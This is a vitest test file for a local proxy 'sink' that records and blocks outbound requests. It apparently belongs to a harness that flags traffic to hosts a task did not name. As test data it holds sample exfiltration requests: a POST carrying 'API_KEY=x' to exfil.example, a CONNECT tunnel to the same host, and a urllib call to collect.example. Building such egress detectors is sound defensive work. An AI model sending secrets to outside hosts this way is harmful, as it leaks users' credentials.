import { spawn, spawnSync } from 'node:child_process';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { outboundHosts, startNetworkSink, type NetworkSink } from './sink.ts';

let sink: NetworkSink;
beforeAll(async () => {
  sink = await startNetworkSink();
});
afterAll(() => sink.close());

/** One request through the sink as a proxy, on a raw socket: `target` in absolute form, or a CONNECT tunnel. */
function viaProxy(method: string, target: string): Promise<string> {
  const { port } = new URL(sink.url);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), '127.0.0.1', () =>
      socket.write(
        `${method} ${target} HTTP/1.1\r\nhost: exfil.example\r\ncontent-length: 9\r\n\r\nAPI_KEY=x`,
      ),
    );
    let text = '';
    socket.on('data', (chunk) => {
      text += chunk.toString('utf8');
    });
    socket.on('end', () => resolve(text.split('\r\n')[0]!));
    socket.on('error', reject);
  });
}

/** Runs a command without blocking the event loop (the sink answers in this process). */
function run(command: string, args: string[], env: NodeJS.ProcessEnv): Promise<string> {
  return new Promise((resolve) => {
    const child = spawn(command, args, { env });
    let out = '';
    child.stdout.on('data', (chunk: Buffer) => {
      out += chunk.toString('utf8');
    });
    child.on('error', () => resolve(''));
    child.on('close', () => resolve(out));
  });
}

describe('the network sink', () => {
  it('records a proxied request and a TLS tunnel with their host, and forwards nothing (403)', async () => {
    expect(await viaProxy('POST', 'http://exfil.example/c')).toBe('HTTP/1.1 403 Forbidden');
    expect(await viaProxy('CONNECT', 'exfil.example:443')).toBe('HTTP/1.1 403 Forbidden');
    expect(sink.hits()).toEqual([
      { method: 'POST', host: 'exfil.example' },
      { method: 'CONNECT', host: 'exfil.example' },
    ]);
  });

  it('is what a program that honours the proxy variables reaches (Python urllib), loopback kept direct', async () => {
    expect(sink.env()).toMatchObject({
      HTTPS_PROXY: sink.url,
      https_proxy: sink.url,
      NO_PROXY: '127.0.0.1,localhost,::1',
    });
    if (spawnSync('python3', ['--version']).status !== 0) return;
    const before = sink.hits().length;
    const out = await run(
      'python3',
      [
        '-c',
        "import urllib.request\ntry: urllib.request.urlopen('https://collect.example/e', timeout=5)\nexcept Exception as e: print(e)",
      ],
      { PATH: process.env.PATH, ...sink.env() },
    );
    expect(out).toMatch(/Tunnel connection failed: 403/);
    expect(sink.hits().slice(before)).toEqual([{ method: 'CONNECT', host: 'collect.example' }]);
  });

  it('counts as outbound every host but loopback and the ones the task names, each once', () => {
    const hits = [
      { method: 'CONNECT', host: 'exfil.example' },
      { method: 'GET', host: '127.0.0.1' },
      { method: 'POST', host: 'exfil.example' },
      { method: 'GET', host: 'docs.example.org' },
    ];
    expect(outboundHosts(hits, 'Summarise https://docs.example.org/page')).toEqual(['exfil.example']);
  });
});
